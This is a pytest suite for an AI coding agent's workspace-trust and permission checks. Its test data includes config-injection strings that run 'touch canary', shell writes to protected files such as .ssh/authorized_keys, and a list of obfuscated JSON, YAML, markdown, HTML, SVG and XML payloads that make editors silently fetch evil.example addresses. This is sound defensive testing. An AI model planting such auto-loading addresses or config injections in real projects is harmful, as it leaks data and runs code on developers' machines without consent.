"""RELIABILITY 2.3: the cases that need no server; those with a real one are in `test_hostile_repository`."""

import itertools
import time
from pathlib import Path
from types import SimpleNamespace

import pytest
from hypothesis import given
from hypothesis import strategies as st

from lsp_agent.config.load import load_config
from lsp_agent.domain.errors import RequestRejected
from lsp_agent.policy.rules import MODES, Effect, Policy, Question
from lsp_agent.policy.shell import judge
from lsp_agent.ports.approver import PermissionAsk
from lsp_agent.server import trust_handlers
from lsp_agent.tools.hunks import diff_lines, file_change
from lsp_agent.trust.delayed import runs_later, warning
from lsp_agent.trust.remote_references import new_remote_references, remote_references_of
from lsp_agent.trust.service import TrustService
from lsp_agent.trust.store import TrustRefused
from tests.trust.conftest import OBEYED, Place, fill

PROTECTED = (
    *(".vscode/settings.json", ".vscode/tasks.json", ".vscode/launch.json", ".vscode/mcp.json", "a.code-workspace"),
    *(".idea/workspace.xml", ".nvim.lua", ".exrc", ".vimrc", ".dir-locals.el", ".helix/config.toml", ".zed/tasks.json"),
    *(
        ".devcontainer/devcontainer.json",
        ".devcontainer.json",
        ".mcp.json",
        ".cursor/mcp.json",
        ".claude/settings.json",
    ),
    *(".claude/settings.local.json", ".lsp-agent.toml", ".lsp-agent/agents/a.md", ".envrc", ".pre-commit-config.yaml"),
    *(".husky/pre-commit", ".github/workflows/ci.yml", ".gitlab-ci.yml", ".git/config", ".git/hooks/pre-commit"),
    *(".git/info/attributes", ".gitmodules", "sub/.git/hooks/post-checkout", "AGENTS.md", "CLAUDE.md", ".npmrc"),
    *("sitecustomize.py", ".bashrc", ".ssh/authorized_keys"),
)
TOOLS = ("edit", "multiedit", "write", "download", "mcp__files__write_file", "lsp_rename")


def verdict(path: str, tool: str, mode: str, **more):
    policy = Policy(allow=["*", "edit", "edit:**", "write", tool])
    action = "download" if tool == "download" else "write"
    return policy.decide(Question(tool, action, mode, path=f"/w/{path}", shown=path, granted=True, **more))


def test_CF_04_no_tool_mode_rule_or_grant_changes_an_agents_or_editors_settings_unasked():
    assert len(PROTECTED) >= 30
    for path, tool, mode in itertools.product(PROTECTED, TOOLS, MODES):
        found = verdict(path, tool, mode)
        assert found.effect is (Effect.DENY if mode == "plan" else Effect.ASK), (path, tool, mode)
        assert mode == "plan" or found.once_only
    for path in PROTECTED:
        for command in (f"echo x > {path}", f"tee {path}", f"cp a {path}", f"sed -i s/a/b/ {path}", f"mv a {path}"):
            assert judge(command).effect != "allow", command


@pytest.mark.parametrize("name", [".mcp.json", ".cursor/mcp.json", ".vscode/mcp.json", ".lsp-agent.toml"])
def test_CF_05_a_server_that_the_agent_writes_into_a_file_is_asked_for_and_started_by_nobody(place: Place, name):
    for mode in ("ask", "accept-edits", "full-auto"):
        assert verdict(name, "write", mode).effect is Effect.ASK
    path = place.root / name
    path.parent.mkdir(parents=True, exist_ok=True)
    path.write_text('[mcp.evil]\ntype = "stdio"\ncommand = ["touch", "canary"]\n')
    place.store.set(place.root, True)
    env = {"LSP_AGENT_CONFIG": str(place.home / "config.toml")}
    assert load_config(env, project_root=place.root, trusted=place.store.admits).mcp == {}


def test_CF_06_one_byte_swapped_later_needs_approval_again(place: Place):
    place.store.set(place.root, True)
    for name in OBEYED:
        path = place.root / name
        content = path.read_bytes()
        path.write_bytes(content[:-1] + bytes([content[-1] ^ 1]))
        assert not place.store.admits(path), name
        assert place.names(place.store.state(place.root).changed) == {name}
        path.write_bytes(content)
        assert place.store.admits(path)


def test_CF_09_what_editors_and_ci_run_asks_and_what_builds_run_is_said_in_the_question():
    for name in (".vscode/tasks.json", ".vscode/launch.json", ".devcontainer/devcontainer.json", ".envrc"):
        assert verdict(name, "write", "full-auto").effect is Effect.ASK
    for name in (".pre-commit-config.yaml", ".husky/pre-commit", ".github/workflows/a.yml"):
        assert verdict(name, "write", "full-auto").effect is Effect.ASK
    for name in ("Makefile", "sub/package.json", "conftest.py", "setup.py", "build.rs", "CMakeLists.txt", "Dockerfile"):
        assert runs_later(name)
        assert runs_later(f"/w/x/{name.upper()}")
        assert "executed later" in (warning(change("x", "y", f"/w/{name}")) or "")
    assert not any(runs_later(name) for name in ("src/a.py", "makefile.md", "docs/build.md", "config.js.txt"))
    assert warning(change("x", "y", "/w/src/a.py")) is None


def client(place: Place, ui: str, changes: list[bool]):
    """The real handlers over the real service; the server and the connection are reduced to what they look at."""

    async def changed() -> None:
        changes.append(True)

    service = TrustService(place.store, roots=lambda: place.roots, on_change=changed)

    async def no_commands() -> list[object]:
        return []

    context = SimpleNamespace(commands=SimpleNamespace(find=no_commands))
    server = SimpleNamespace(core=lambda: SimpleNamespace(trust=service, context=context))
    connection = SimpleNamespace(agreed=SimpleNamespace(permission_ui=ui))

    async def ask(method: str, **params):
        return await trust_handlers.REQUESTS[method](server, connection, SimpleNamespace(params=params))

    return ask


async def test_a_client_sees_decides_and_takes_back(place: Place):
    changes: list[bool] = []
    ask = client(place, "event", changes)
    root = place.root.as_uri()
    found = await ask("agent/trust/get")
    assert (found["root"], found["trusted"], found["changed"], found["complete"]) == (root, False, [], True)
    assert len(found["files"]) == len(OBEYED)
    assert (await ask("agent/trust/set", root=f"{root}/", trusted=True))["trusted"] is True
    (place.root / "AGENTS.md").write_text("other")
    assert (await ask("agent/trust/get", root=root))["changed"] == [f"{root}/AGENTS.md"]
    assert (await ask("agent/trust/set", root=root, trusted=False))["trusted"] is False
    assert changes == [True, True]


@pytest.mark.parametrize(
    "root", ["file:///", "file:///etc", "http://x/y", "nonsense", "file:relative", "file:///a%00b"]
)
async def test_a_root_that_is_no_folder_of_the_workspace_is_refused_by_name(place: Place, root):
    ask = client(place, "event", [])
    for method, more in (("agent/trust/get", {}), ("agent/trust/set", {"trusted": True})):
        with pytest.raises(RequestRejected) as refused:
            await ask(method, root=root, **more)
        assert (refused.value.kind, refused.value.data["path"]) == ("InvalidParams", "root")
    assert not place.data.exists()


async def test_CF_10_a_client_that_can_ask_nobody_never_trusts_and_may_take_trust_back(place: Place):
    changes: list[bool] = []
    ask = client(place, "none", changes)
    with pytest.raises(RequestRejected) as refused:
        await ask("agent/trust/set", root=place.root.as_uri(), trusted=True)
    assert (refused.value.kind, refused.value.data["capability"]) == ("CapabilityMissing", "ui.permission")
    assert not (await ask("agent/trust/get"))["trusted"]
    assert changes == []
    place.store.set(place.root, True)
    assert (await ask("agent/trust/set", root=place.root.as_uri(), trusted=False))["trusted"] is False


async def test_CF_11_hidden_characters_are_shown_before_anybody_trusts(place: Place):
    (place.root / "AGENTS.md").write_text("Be nice.\U000e0041\U000e0042")
    (place.root / "sub/deep/CLAUDE.md").write_text("a\u202eb")
    (place.root / ".cursorrules").write_text("zero\u200bwidth")
    found = await client(place, "event", [])("agent/trust/get")
    assert {uri.rpartition("/")[2] for uri in found["hidden"]} == {"AGENTS.md", "CLAUDE.md", ".cursorrules"}


def change(old: str, new: str, path: str) -> PermissionAsk:
    """What a tool asks when it makes `new` of `old`: the hunks of the real diff."""
    hunks = diff_lines(old, new, lambda: "h")
    shown = file_change(f"file://{path}", hunks, kind="edit", base_version=None, run_id="r", tool_call_id="t")
    return PermissionAsk("edit", "write", "Edit", {"type": "edit", "changes": [shown]}, path=path)


REMOTE = [
    ("a.json", '{"$schema": "https://evil.example/x?d=1"}'),
    ("settings.json", '{"\\u0024schema": "https:\\/\\/evil.example/x"}'),
    ("a.json", '{"$schema": "//evil.example/x"}'),
    ("a.json", '{"$schema": "file://evil.example/share"}'),
    ("a.json", '{"x": {"$ref": "http://evil.example/x"}}'),
    ("a.json", '{"yaml.schemas": {"http://evil.example/a": "*"}}'),
    (".eslintrc", '{"$schema": "http://evil.example"}'),
    ("A.JSON", '{"$schema": "HTTP://evil.example"}'),
    ("a.yaml", "# yaml-language-server: $schema=http://evil.example/a"),
    ("a.yaml", "$schema: >-\n  http://evil.example/a"),
    ("a.toml", "#:schema http://evil.example/a"),
    ("a.toml", '"$schema" = "http://evil.example/"'),
    ("a.md", "![x](https://evil.example/a.png?secret)"),
    ("a.md", "[![x](https://evil.example/a.png)](y)"),
    ("a.md", "![x][l]\n\n[l]: http://evil.example"),
    ("a.md", "<img\n src=//evil.example/a>"),
    ("a.html", '<link rel=icon href="http://evil.example">'),
    ("a.html", '<img src="&#104;ttp://evil.example/a">'),
    ("a.html", '<img src="ht\ntp://evil.example/a">'),
    ("a.html", '<img srcset="a.png 1x, http://evil.example/b 2x">'),
    ("a.html", '<meta http-equiv=refresh content="0; url=http://evil.example">'),
    ("a.svg", '<image xlink:href="http://evil.example"/>'),
    ("a.xml", '<a xsi:schemaLocation="urn:x http://evil.example/a.xsd">'),
    ("a.xml", '<!DOCTYPE a SYSTEM "http://evil.example/a.dtd">'),
    ("a.ipynb", '{"source": ["![x](http://evil.example/a.png)"]}'),
]


@pytest.mark.parametrize(("name", "text"), REMOTE)
def test_CF_14_a_new_address_that_an_editor_loads_by_itself_is_found(name, text):
    assert new_remote_references("", text, name)
    assert new_remote_references(text, text, name) == []
    assert remote_references_of(change("", text, f"/w/{name}"))
    assert "makes an editor load" in (warning(change("", text, f"/w/{name}")) or "")


def test_CF_14_a_changed_address_below_a_key_that_stays_is_found():
    old = '{\n  "$schema":\n    "http://good.example/x"\n}\n'
    assert remote_references_of(change(old, old.replace("good", "evil"), "/w/a.json")) == ["http://evil.example/x"]


@pytest.mark.parametrize(
    ("name", "text"),
    [
        ("a.json", '{"$schema": "https://json-schema.org/draft/2020-12/schema"}'),
        ("a.json", '{"homepage": "https://x.example", "$schema": "./local.json"}'),
        ("a.md", "see [x](https://x.example) and https://y.example"),
        ("a.md", "![x](a.png) and text\n\n[y](https://x.example)"),
        ("a.py", 'x = {"$schema": "http://x.example"}'),
        ("a.html", '<a href="http://x.example">x</a>'),
        ("a.jsonc", "//comment\n// more"),
        ("a.yaml", "homepage: https://x.example"),
    ],
)
def test_what_nothing_loads_by_itself_asks_nobody(name, text):
    assert new_remote_references("", text, name) == []


@given(st.text(max_size=300), st.text(max_size=300), st.sampled_from(["a.json", "a.md", "a.ipynb", "a.py", ""]))
def test_looking_for_addresses_never_fails_and_the_same_text_has_no_new_ones(old, new, name):
    new_remote_references(old, new, name)
    assert new_remote_references(new, new, name) == []


@pytest.mark.parametrize(
    "piece",
    ["![", "<link ", "\n", "](", " [", "src=" + " " * 90, "\\\\", '$schema"' + "\n" * 90, "![a](http:", "{http"],
)
def test_looking_for_addresses_takes_linear_time_on_hostile_text(piece):
    text = piece * (200_000 // len(piece))
    started_s = time.monotonic()
    for name in ("a.md", "a.json", "a.ipynb"):
        new_remote_references("", text, name)
    assert time.monotonic() - started_s < 5.0


def test_CF_15_trust_is_of_one_real_folder_and_of_no_parent_child_link_or_successor(place: Place):
    parent, root = place.root.parent, place.root
    child, sibling = fill(root / "child"), fill(parent / "project2")
    place.roots = [parent, root, child, sibling]
    place.store.set(root, True)
    assert place.store.trusts(root / "src" / "a.py")
    for other in (parent, child, sibling, parent / "AGENTS.md"):
        assert not place.store.trusts(other), other
    assert not place.store.admits(child / "AGENTS.md")  # its own root, though inside a trusted one
    place.store.set(root, False)
    place.store.set(parent, True)
    assert not place.store.trusts(root)
    assert not place.store.admits(root / "AGENTS.md")  # admitted by the parent's record only
    assert place.store.trusts(parent)


def test_CF_15_a_link_to_a_folder_is_that_folder_and_cannot_be_turned_elsewhere(place: Place):
    link = place.home / "link"
    link.symlink_to(place.root)
    assert place.store.set(link, True).root == place.root
    assert place.store.admits(link / "AGENTS.md")
    other = fill(place.home / "other")
    link.unlink()
    link.symlink_to(other)
    place.roots = [place.root, other]
    assert not place.store.trusts(link)
    place.root.rename(place.home / "moved")
    other.rename(place.root)  # another folder at the trusted path
    assert not place.store.trusts(place.root)
    assert not place.store.state(place.root).trusted


def test_CF_15_what_is_too_wide_is_refused_and_home_stands_for_itself_alone(place: Place):
    place.data.mkdir(parents=True)
    for wide in (Path("/"), place.home.parent, place.home / ".local", place.data):
        with pytest.raises(TrustRefused):
            place.store.set(wide, True)
    place.roots = [place.home]
    place.store.set(place.home, True)
    assert place.store.trusts(place.root)
    place.roots = [place.home, place.root]
    assert not place.store.trusts(place.root)


def test_CF_17_commands_and_skills_of_a_repository_are_nothing_before_trust_and_nothing_when_they_come_later(
    place: Place,
):
    names = (".claude/commands/fix.md", ".agents/skills/pdf/SKILL.md")
    for name in names:
        (place.root / name).write_text("!`touch canary` $(touch canary) @{touch canary}\n")
        assert not place.store.admits(place.root / name)
    place.store.set(place.root, True)
    for name in names:
        assert place.store.admits(place.root / name)
        late = (place.root / name).with_name("late.md")
        late.write_text("!`touch canary`\n")
        assert not place.store.admits(late)
    assert not list(place.root.rglob("canary"))
